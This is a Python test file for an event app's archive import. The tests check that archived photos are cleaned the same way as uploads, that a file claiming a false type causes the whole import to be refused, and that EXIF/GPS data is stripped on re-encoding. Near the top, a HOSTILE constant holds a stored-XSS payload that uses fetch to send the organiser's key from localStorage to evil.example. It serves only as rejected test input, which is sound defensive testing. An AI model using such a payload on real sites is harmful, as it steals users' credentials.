"""Photos in an archive are taken as uploads are: cleaned by the same function, or the whole
import refused in a sentence naming the photo, with nothing made."""

from __future__ import annotations

import base64
import io
import json
from typing import Any

import pytest
from PIL import ExifTags, Image

from server.archive.dump import dump
from server.archive.load import load
from server.errors import Invalid
from server.events.models import Event
from server.marketplace import pitches
from server.notes import editing, photos
from server.notes.models import Photo
from server.notes.photos import CleanPhoto
from tests.archive.rich import rich_event
from tests.conftest import Domain

# An HTML "photo" that loads a JavaScript "photo" from the same server: what an attacker puts
# in an archive so that, served from Snug's origin, it reads the organiser's key.
HOSTILE = (
    b"<!doctype html><script src='/e/camp/photos/2/key'></script>"
    b"<script>fetch('//evil.example/?' + localStorage.getItem('key'))</script>"
)


def jpeg_with_gps() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SNUG-ARCHIVE-CAMERA"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSMapDatum] = "SNUG-ARCHIVE-DATUM"
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), (30, 120, 60)).save(buffer, "JPEG", exif=exif, quality=95)
    return buffer.getvalue()


async def archive_with_photo(domain: Domain, data: bytes, media_type: str) -> dict[str, Any]:
    """A rich event's archive whose photo holds ``data``, the event gone as on a new server."""
    rich = await rich_event(domain)
    archive = await dump(rich.event)
    await Event.filter(id=rich.event.id).delete()
    (row,) = archive["photos"]
    row.update(data=base64.b64encode(data).decode("ascii"), media_type=media_type)
    return archive


async def test_a_script_claiming_to_be_a_png_refuses_the_whole_import(domain: Domain) -> None:
    archive = await archive_with_photo(domain, HOSTILE, "image/png")
    (row,) = archive["photos"]
    photos_before = await Photo.all().count()
    with pytest.raises(Invalid, match=rf"photos\[id={row['id']}\] .*“The flipchart”") as refused:
        await load(json.dumps(archive), domain.keys)
    assert "Nothing was imported" in refused.value.message
    assert not await Event.exists(slug=archive["event"]["slug"])
    assert await Photo.all().count() == photos_before


async def test_a_photo_that_claims_another_type_is_refused_too(domain: Domain) -> None:
    archive = await archive_with_photo(domain, HOSTILE, "text/html")
    with pytest.raises(Invalid, match="JPEG, PNG or WebP"):
        await load(json.dumps(archive), domain.keys)
    assert not await Event.exists(slug=archive["event"]["slug"])


async def test_an_archived_photo_is_kept_re_encoded_with_its_true_type(domain: Domain) -> None:
    sent = jpeg_with_gps()
    # Labelled a PNG, 4 by 3: the file itself says what it is and how large.
    archive = await archive_with_photo(domain, sent, "image/png")
    imported = await load(json.dumps(archive), domain.keys)
    (photo,) = await Photo.filter(notes__event_id=imported.event.id)
    kept = bytes(photo.data)
    assert kept != sent
    image = Image.open(io.BytesIO(kept))
    assert (photo.media_type, image.format) == ("image/jpeg", "JPEG")
    assert (photo.width, photo.height) == image.size == (60, 40)
    assert not image.getexif() and "exif" not in image.info
    assert b"SNUG-ARCHIVE-DATUM" not in kept and b"SNUG-ARCHIVE-CAMERA" not in kept


async def test_uploads_and_imports_are_cleaned_by_one_function(
    domain: Domain, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[bytes] = []
    real = photos.clean

    def clean(data: bytes, media_type: str) -> CleanPhoto:
        seen.append(data)
        return real(data, media_type)

    monkeypatch.setattr(photos, "clean", clean)
    sent = jpeg_with_gps()
    archive = await archive_with_photo(domain, sent, "image/jpeg")
    assert seen == [], "the rich event stores its photo directly"
    imported = await load(json.dumps(archive), domain.keys)
    assert seen == [sent]
    event = imported.event
    host = await domain.attendee(event, "Uploader")
    view = await domain.run(event, host, pitches.create_pitch, {"title": "After the move"})
    session = await editing.open_notes(event, view["id"], host)
    await photos.add(session, host, sent, "image/jpeg", "Uploaded")
    assert seen == [sent, sent]
